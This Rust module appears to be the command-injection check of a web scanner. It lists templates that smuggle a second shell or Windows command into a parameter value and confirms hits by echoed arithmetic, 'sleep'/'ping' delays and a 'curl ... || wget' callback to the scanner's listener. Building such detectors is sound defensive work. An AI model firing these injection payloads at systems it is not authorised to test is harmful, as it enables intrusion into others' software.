//! Commands of the operating system put into those of the application.
//!
//! The proof is a product that the shell works out between two words of ours. A page that repeats the payload cannot hold it.

use std::time::Duration;

use model::finding::Observation;
use model::profile::Payloads;

use crate::Running;
use crate::conclude::Sighting;
use crate::data::compare::{Payload, ask};
use crate::data::delay::{self, Pace, seconds};
use crate::data::product::Product;
use crate::data::verdict::Verdict;
use crate::data::{callback, point};
use crate::probe::{Probe, ProbeError};

/// The words of this check.
pub(crate) const WORDS: &[&str] = &[COMMAND];
const COMMAND: &str = "command-injection";

/// `{C}` stands for a command, `{V}` for the present value, `{Z}` for one that makes the first command fail. The first
/// works without quotes and in both kinds: what follows is a comment in each.
const SHELL: &[(Payloads, &str)] = &[
    (Payloads::Light, "{V};{C};#'|{C} #\"|{C} #"),
    (Payloads::Light, "{V}$({C})"),
    (Payloads::Normal, "{V}|{C} #'|{C} #\"|{C} #"),
    (Payloads::Normal, "{V}\n{C}\n"),
    (Payloads::Normal, "{V}`{C}`"),
    (Payloads::Normal, "{V}&{C}&"),
    (Payloads::Normal, "{V}'$({C})'"),
    (Payloads::Thorough, "{V}&&{C}"),
    (Payloads::Thorough, "{Z}||{C}"),
    (Payloads::Thorough, "{V}');{C};#"),
    (Payloads::Thorough, "{V}\");{C};#"),
    (Payloads::Thorough, "{V}'\n{C}\n'"),
    (Payloads::Thorough, "{V}'&&{C}&&'"),
    (Payloads::Thorough, "{V}\"&&{C}&&\""),
    (Payloads::Thorough, "{V}|{C}"),
    (Payloads::Thorough, ";{C}"),
    (Payloads::Thorough, "{C}"),
];
const WINDOWS: &[(Payloads, &str)] = &[
    (Payloads::Normal, "{V}&{C}"),
    (Payloads::Normal, "{V}|{C}"),
    (Payloads::Thorough, "{V}\"&{C}&rem \""),
    (Payloads::Thorough, "{V}&&{C}"),
    (Payloads::Thorough, "{Z}||{C}"),
];

/// By results, by times, by callbacks.
pub(crate) fn run<'a>(probe: &'a Probe<'a>) -> Running<'a> {
    Box::pin(async move {
        let mut verdict = Verdict::new(WORDS);
        let end = attempts(probe, &mut verdict).await;
        verdict.end(end)
    })
}

async fn attempts(probe: &Probe<'_>, verdict: &mut Verdict) -> Result<(), ProbeError> {
    if let Some(observed) = by_result(probe).await? {
        verdict.proven(COMMAND, observed);
        return Ok(());
    }
    if probe.payloads >= Payloads::Normal {
        if let Some(observed) = by_callback(probe).await? {
            verdict.proven(COMMAND, observed);
            return Ok(());
        }
        match delay::pace(probe).await? {
            Pace::Delay(delay) => {
                if let Some(observed) = by_time(probe, delay).await? {
                    verdict.proven(COMMAND, observed);
                    return Ok(());
                }
                if let Some(why) = delay::lost(probe) {
                    verdict.unclear(COMMAND, why);
                    return Ok(());
                }
            }
            Pace::Unclear(why) => {
                verdict.unclear(COMMAND, why);
                return Ok(());
            }
        }
    }
    verdict.no(COMMAND);
    Ok(())
}

fn fill(probe: &Probe<'_>, template: &str, command: &str) -> String {
    template.replace("{Z}", &probe.token()).replace("{C}", command).replace("{V}", point::base(probe))
}

/// The rarest contexts that are tried: a header or cookie is one of many of each page, and seldom stands in one of them.
fn most(probe: &Probe<'_>) -> Payloads {
    if point::is_outside(probe) { probe.payloads.min(Payloads::Normal) } else { probe.payloads }
}

async fn by_result(probe: &Probe<'_>) -> Result<Option<Observation>, ProbeError> {
    let sets: [(&[(Payloads, &str)], Style); 3] =
        [(SHELL, Style::Shell), (WINDOWS, Style::Windows), (SHELL, Style::NoSpace)];
    for (templates, style) in sets {
        // A comment needs a blank before it: where none may stand, contexts without one are left.
        let takes = |template: &str| style != Style::NoSpace || !template.contains(' ');
        let most = most(probe);
        let fits = |(from, template): &&(Payloads, &str)| {
            *from <= most && style.from() <= probe.payloads && takes(template)
        };
        for (_, template) in templates.iter().filter(fits) {
            if let Some(sighting) = attempt(probe, template, style).await? {
                return Ok(Some(probe.observe(sighting)));
            }
        }
    }
    Ok(None)
}

/// How a command is written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Style {
    Shell,
    /// Without blanks, which applications like to filter.
    NoSpace,
    Windows,
}

impl Style {
    fn from(self) -> Payloads {
        if self == Self::NoSpace { Payloads::Thorough } else { Payloads::Light }
    }

    /// The command and what it prints; misspelt it prints nothing of the kind.
    fn command(self, product: &Product, right: bool) -> String {
        let Product { left, right: end, a, b, .. } = product;
        let echo = if right { "echo" } else { "ehco" };
        match self {
            Self::Shell => format!("{echo} {left}$(({a}*{b})){end}"),
            Self::NoSpace => format!("{echo}${{IFS}}{left}$(({a}*{b})){end}"),
            Self::Windows => format!("{} /a {a}*{b}", if right { "set" } else { "sett" }),
        }
    }

    fn result(self, product: &Product) -> String {
        if self == Self::Windows { product.number() } else { product.text() }
    }
}

async fn attempt(probe: &Probe<'_>, template: &str, style: Style) -> Result<Option<Sighting>, ProbeError> {
    let product = Product::new(probe);
    let value = fill(probe, template, &style.command(&product, true));
    let attack = ask(probe, &Payload::Text(value)).await?;
    let result = style.result(&product);
    if !attack.exchange.response.text().contains(&result) {
        return Ok(None);
    }
    // Misspelt, and once more with other numbers.
    let wrong = Product::new(probe);
    let control = ask(probe, &Payload::Text(fill(probe, template, &style.command(&wrong, false)))).await?;
    let again = Product::new(probe);
    let second = ask(probe, &Payload::Text(fill(probe, template, &style.command(&again, true)))).await?;
    let repeats = second.exchange.response.text().contains(&style.result(&again));
    if control.exchange.response.text().contains(&style.result(&wrong)) || !repeats {
        return Ok(None);
    }
    let summary = format!(
        "The command interpreter worked out what it was told: the answer holds \"{result}\", which stands nowhere in the \
         request, twice in two tries with other numbers; with the command misspelt it does not"
    );
    Ok(Some(Sighting::confirmed(COMMAND, summary, product.evidence(probe, &attack, &control, &result))))
}

async fn by_time(probe: &Probe<'_>, delay: Duration) -> Result<Option<Observation>, ProbeError> {
    let shell = |units: u32, delay: Duration| format!("sleep {}", seconds(units, delay));
    let ping = |units: u32, delay: Duration| {
        // One request a second after the first; whole seconds only.
        let wanted = (delay * units).as_secs_f64().ceil();
        format!("ping -n {} 127.0.0.1>nul", 1.0 + wanted)
    };
    let whole = delay >= Duration::from_secs(1);
    for (templates, style) in [(SHELL, Style::Shell), (WINDOWS, Style::Windows)] {
        if style == Style::Windows && !whole {
            continue;
        }
        for (_, template) in templates.iter().filter(|(from, _)| *from <= most(probe)) {
            let wait = |units: u32, delay: Duration| {
                let command = if style == Style::Shell { shell(units, delay) } else { ping(units, delay) };
                // A word that nothing reads: requests that may change something differ.
                fill(probe, &format!("{template}{}", unread(probe, template)), &command)
            };
            if let Some(delayed) = delay::decide(probe, &wait, delay).await? {
                return Ok(Some(probe.observe(Sighting::confirmed(COMMAND, delayed.summary, delayed.web))));
            }
        }
    }
    Ok(None)
}

/// A random word where the template ends in a comment or a line of its own.
fn unread(probe: &Probe<'_>, template: &str) -> String {
    if template.ends_with(['#', '\n', '&', '|']) { probe.token() } else { String::new() }
}

async fn by_callback(probe: &Probe<'_>) -> Result<Option<Observation>, ProbeError> {
    let Some(listener) = probe.callback else { return Ok(None) };
    let templates = SHELL.iter().filter(|(from, _)| *from <= most(probe));
    let command = |url: &str| format!("curl -s {url}||wget -qO- {url}");
    let attacks: Vec<_> =
        templates.map(|(_, template)| move |url: &str| fill(probe, template, &command(url))).collect();
    let attacks: Vec<callback::WithUrl<'_>> = attacks.iter().map(|a| a as callback::WithUrl<'_>).collect();
    // The same address where no interpreter reads it as part of a command.
    let control = |url: &str| format!("{} {} {url}", point::base(probe), probe.token());
    let Some(called) = callback::prove(probe, listener, &attacks, &control).await? else { return Ok(None) };
    let summary = format!("The command interpreter fetched an address of the scanner: {}", called.summary);
    Ok(Some(probe.observe(Sighting::confirmed(COMMAND, summary, called.web))))
}
